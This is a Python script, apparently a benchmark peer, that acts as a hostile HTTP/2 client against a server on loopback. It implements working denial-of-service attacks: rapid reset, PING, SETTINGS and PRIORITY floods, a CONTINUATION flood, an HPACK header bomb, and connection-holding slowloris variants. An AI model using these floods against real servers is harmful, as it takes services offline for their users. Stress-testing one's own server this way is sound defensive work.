#!/usr/bin/env -S python3 -B
"""One hostile HTTP/2 client in the clear: attacks 127.0.0.1:PORT until it is stopped.

    benches/peers/attacker.py KIND PORT

It comes back as soon as it is thrown out; stopped, it prints how many connections it has had. Without a KIND it lists them. Nothing but loopback is attacked.
"""

import signal
import socket
import sys

connections = 0  # opened so far
STREAMS = 100
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Indexed from HPACK's static table: GET or POST, http, /. And :authority.
GET = b"\x82\x86\x84\x01\x09localhost"
POST = b"\x83\x86\x84\x01\x09localhost"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def begin(port: int, settings: bytes = b"") -> socket.socket:
    """A connection that has said what it must."""
    global connections
    peer = socket.create_connection(("127.0.0.1", port), timeout=60)
    connections += 1
    peer.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return peer


def rapid_reset(port: int) -> None:
    """Requests, each taken back at once."""
    with begin(port) as peer:
        for number in range(10_000):
            stream = 2 * number + 1
            request = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET)
            peer.sendall(request + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def flood(kind: int, payload: bytes):
    """The same frame again and again."""

    def attack(port: int) -> None:
        frames = frame(kind, 0, 0 if kind != PRIORITY else 1, payload) * 64
        with begin(port) as peer:
            while True:
                peer.sendall(frames)

    return attack


def continuation(port: int) -> None:
    """A head without end."""
    with begin(port) as peer:
        peer.sendall(frame(HEADERS, END_STREAM, 1, GET))
        while True:
            peer.sendall(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 64)


def hold(count: int, settings: bytes, begun: bytes):
    """So many connections on which nothing goes on, each opened again as it is closed."""

    def attack(port: int) -> None:
        held = []
        while True:
            if len(held) == count:
                while held[0].recv(1 << 16):
                    pass
                held.pop(0).close()
            held.append(begin(port, settings))
            held[-1].sendall(begun)

    return attack


def requests(flags: int, block: bytes) -> bytes:
    """As many as may be open at once."""
    return b"".join(frame(HEADERS, END_HEADERS | flags, 2 * number + 1, block) for number in range(STREAMS))


NO_WINDOW = b"\0\x04\0\0\0\0"
# Many references to one field; bodies stay open, windows shut.
BOMB = requests(0, POST + b"\x40\x01a\x01b" + b"\xbe" * 90)

KINDS = {
    "rapid-reset": rapid_reset,
    "ping": flood(PING, bytes(8)),
    "settings": flood(SETTINGS, b""),
    "priority": flood(PRIORITY, b"\0\0\0\0\x01"),
    "continuation": continuation,
    "header-bomb": hold(8, NO_WINDOW, BOMB),
    "shut-windows": hold(50, NO_WINDOW, requests(END_STREAM, GET)),
    "slow-heads": hold(10_000, b"", frame(HEADERS, END_STREAM, 1, GET)),
}


def main() -> None:
    """Attacks again whenever it is thrown out."""
    if len(sys.argv) != 3 or sys.argv[1] not in KINDS:
        sys.exit(f"{__doc__}\nkinds: {', '.join(KINDS)}")
    attack, port = KINDS[sys.argv[1]], int(sys.argv[2])
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        while True:
            try:
                attack(port)
            except OSError:
                pass
    finally:
        # A bench that compares wants to know that there was an attack at all.
        print(connections, flush=True)


if __name__ == "__main__":
    main()
